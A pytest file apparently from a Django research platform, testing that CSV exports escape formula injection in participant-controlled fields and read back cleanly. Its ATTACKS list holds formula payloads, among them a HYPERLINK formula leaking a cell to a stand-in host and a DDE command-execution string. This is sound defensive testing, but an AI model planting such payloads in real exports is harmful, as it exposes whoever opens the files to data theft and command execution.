"""CSV formula injection: a value a participant controls (a platform parameter such as
SESSION_ID) or any other text that a spreadsheet would run as a formula is written as text in
every CSV the platform writes, and the platform's own files read back unchanged."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from backend.analysis.exports import iter_csv, read_trial_csv
from backend.analysis.tidy import COLUMNS
from backend.core.csvcells import safe_cell, unescape_cell
from backend.participation.models import Session
from tests.analysis.conftest import SMALL_RULES
from tests.analysis.factories import make_row
from tests.participation.factories import make_study
from worker.pipelines import imagesets

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "''@x"]  # fmt: skip
HARMLESS = ["SUB-1", "plain text", "", "a=b", "'quoted'", "5f0c2a9e"]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_reads_back(value: str) -> None:
    written = safe_cell(value)
    assert written.startswith("'") and written[1:] == value
    assert unescape_cell(written) == value
    assert imagesets._unescape(written) == value  # the worker reads images.csv the same way


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_and_numbers_are_written_as_they_are(value: str) -> None:
    assert safe_cell(value) == value and unescape_cell(value) == value
    assert safe_cell(-1.5) == -1.5 and safe_cell(-3) == -3 and safe_cell(None) is None


def test_the_tidy_export_escapes_formulas_and_reimports_the_same_rows() -> None:
    rows = [make_row(condition="=cmd()", participant="@p", unit="-1", rt_ms=-12.5)]
    text = "".join(iter_csv(rows))
    written = rows_of(text)[0]
    assert written["condition"] == "'=cmd()" and written["participant"] == "'@p"
    assert written["unit"] == "'-1" and written["rt_ms"] == "-12.5"
    mapping = {column: column for column in COLUMNS}
    assert list(read_trial_csv(io.StringIO(text), mapping, "x")) == rows


@pytest.mark.django_db
def test_platform_parameters_in_the_submission_lists_are_written_as_text(
    client: Client, owner: User, take_part: Callable[..., Session]
) -> None:
    fixture = make_study(owner, n_lists=2, exclusion_rules=SMALL_RULES)
    take_part(fixture, "validparticipant01", session_id=ATTACKS[0])
    take_part(fixture, "excludedparticip02", catch_correct=False, session_id="@SUM(A1)")
    client.force_login(owner)
    base = f"/admin/studies/study/{fixture.study.pk}/results/"
    approve = rows_of(client.get(base + "approve.csv").content.decode())
    reject = rows_of(client.get(base + "return-or-reject.csv").content.decode())
    assert [row["submission_id"] for row in approve] == ["'" + ATTACKS[0]]
    assert [row["submission_id"] for row in reject] == ["'@SUM(A1)"]
    for row in approve + reject:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row.values()), row


def test_the_api_submission_list_is_escaped_too(
    owner: User, take_part: Callable[..., Session], db: Any
) -> None:
    from tests.analysis.test_results_pages import api_as

    fixture = make_study(owner, n_lists=1, exclusion_rules=SMALL_RULES)
    take_part(fixture, "validparticipant01", session_id="=1+1")
    url = f"/api/v1/researcher/studies/{fixture.study.slug}/results/approve.csv"
    response = api_as(owner).get(url)
    assert response.status_code == 200
    assert [row["submission_id"] for row in rows_of(response.content.decode())] == ["'=1+1"]
